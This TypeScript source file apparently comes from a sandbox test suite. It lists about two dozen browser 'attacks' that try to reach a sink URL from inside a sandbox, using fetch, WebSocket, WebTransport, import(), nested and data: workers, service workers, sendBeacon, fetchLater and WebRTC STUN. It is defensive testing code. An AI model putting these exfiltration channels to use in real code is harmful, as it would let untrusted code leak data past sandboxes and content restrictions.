// The ways out, each a function body that knows `url` (the sink's /hit/<id>) and may await. One that needs
// a window is tried in one first; a process has none, so there it can only fail.

export interface Attack {
  readonly name: string;
  readonly code: string;
  /** Where it is tried without a sandbox. */
  readonly plain: 'worker' | 'window';
  /** What the sink counts. */
  readonly leaves: 'hit' | 'datagram';
  /** Browsers in which it reaches nothing even without a sandbox, and why. */
  readonly invalid?: Partial<Record<'chromium' | 'firefox' | 'webkit', string>>;
}

const blobOf = (source: string): string =>
  `URL.createObjectURL(new Blob([${source}], { type: 'text/javascript' }))`;
const settled = (target: string, events: readonly string[]): string =>
  `await new Promise((done) => { const t = ${target}; for (const e of ${JSON.stringify(events)}) t.addEventListener(e, done); });`;
/** Runs a body in a worker of the worker. */
const nested = (body: string): string =>
  `const source = 'const url = ' + JSON.stringify(url) + '; (async () => {' + ${JSON.stringify(body)} + '})().then(() => postMessage(1), () => postMessage(0));';
   await new Promise((done) => { const w = new Worker(${blobOf('source')}); w.onmessage = done; w.onerror = done; });`;

const inWorker = (name: string, code: string, invalid?: Attack['invalid']): Attack => ({
  name,
  code,
  plain: 'worker',
  leaves: 'hit',
  ...(invalid === undefined ? {} : { invalid }),
});
const inWindow = (name: string, code: string, invalid?: Attack['invalid']): Attack => ({
  ...inWorker(name, code, invalid),
  plain: 'window',
});

const onlyChromium = (what: string): NonNullable<Attack['invalid']> => ({
  firefox: `${what} does not exist there`,
  webkit: `${what} does not exist there`,
});

export const attacks: readonly Attack[] = [
  inWorker('fetch', `await fetch(url, { mode: 'no-cors' });`),
  inWorker(
    'fetch with keepalive',
    `await fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' });`,
  ),
  inWorker('XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', url, false); x.send();`),
  inWorker('WebSocket', settled(`new WebSocket(url.replace('http', 'ws'))`, ['open', 'error'])),
  inWorker(
    'WebSocketStream',
    `await new WebSocketStream(url.replace('http', 'ws')).opened;`,
    onlyChromium('WebSocketStream'),
  ),
  inWorker('EventSource', settled('new EventSource(url)', ['open', 'message', 'error'])),
  {
    ...inWorker('WebTransport', `await new WebTransport(url.replace('http:', 'https:')).ready;`, {
      webkit: 'WebTransport does not exist there',
    }),
    leaves: 'datagram',
  },
  inWorker('import()', `await import(url + '.js');`),
  inWorker('a static import', `await import(${blobOf(`'import ' + JSON.stringify(url + '.js')`)});`),
  inWorker(
    'a static import in a data: module',
    `await import('data:text/javascript,' + encodeURIComponent('import ' + JSON.stringify(url + '.js')));`,
  ),
  inWorker('importScripts', `importScripts(url + '.js');`),
  inWorker('a font', `await new FontFace('leak', 'url(' + url + ')').load();`, {
    webkit: 'FontFace does not exist in its workers',
  }),
  inWorker('the Cache API', `await (await caches.open('leak')).add(new Request(url, { mode: 'no-cors' }));`),
  inWorker('streaming compilation', `await WebAssembly.compileStreaming(fetch(url, { mode: 'no-cors' }));`),
  inWorker('fetch in a nested worker', nested(`await fetch(url, { mode: 'no-cors' });`)),
  inWorker('importScripts in a nested worker', nested(`importScripts(url + '.js');`)),
  inWorker('import() in a nested worker', nested(`await import(url + '.js');`)),
  inWorker(
    'WebSocket in a nested worker',
    nested(settled(`new WebSocket(url.replace('http', 'ws'))`, ['open', 'error'])),
  ),
  inWorker('fetch in a worker of a nested worker', nested(nested(`await fetch(url, { mode: 'no-cors' });`))),
  inWorker(
    'a nested module worker',
    `await new Promise((done) => {
      const w = new Worker(${blobOf(`'import ' + JSON.stringify(url + '.js') + '; postMessage(1)'`)}, { type: 'module' });
      w.onmessage = done; w.onerror = done;
    });`,
  ),
  inWorker(
    'a nested data: worker',
    `await new Promise((done) => {
      const w = new Worker('data:text/javascript,' + encodeURIComponent('fetch(' + JSON.stringify(url) + ', { mode: "no-cors" }).finally(() => postMessage(1))'));
      w.onmessage = done; w.onerror = done;
    });`,
  ),
  inWindow('sendBeacon', `navigator.sendBeacon(url, 'x');`),
  inWindow('an image', `const image = new Image(); image.src = url; ${settled('image', ['load', 'error'])}`),
  inWindow(
    'a SharedWorker',
    `await new Promise((done) => {
      const w = new SharedWorker(${blobOf(`'onconnect = () => fetch(' + JSON.stringify(url) + ', { mode: "no-cors" })'`)});
      w.onerror = done; setTimeout(done, 200);
    });`,
  ),
  inWindow(
    'a service worker',
    `await navigator.serviceWorker.register(url + '.js').catch(() => fetch(url, { mode: 'no-cors' }));`,
  ),
  inWindow('fetchLater', `fetchLater(url, { activateAfter: 0 });`, onlyChromium('fetchLater')),
  {
    ...inWindow(
      'WebRTC',
      `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(url).host }] });
      c.createDataChannel('leak'); await c.setLocalDescription(await c.createOffer());`,
      {
        firefox: 'it asks no STUN server on the loopback interface',
        webkit: 'RTCPeerConnection does not exist there',
      },
    ),
    leaves: 'datagram',
  },
];

/** The attack as an async function body with its URL filled in; gives up after a while. */
export function armed(attack: Attack, url: string): string {
  return `const url = ${JSON.stringify(url)};
await Promise.race([(async () => { ${attack.code} })(), new Promise((done) => setTimeout(done, 1500))]);`;
}
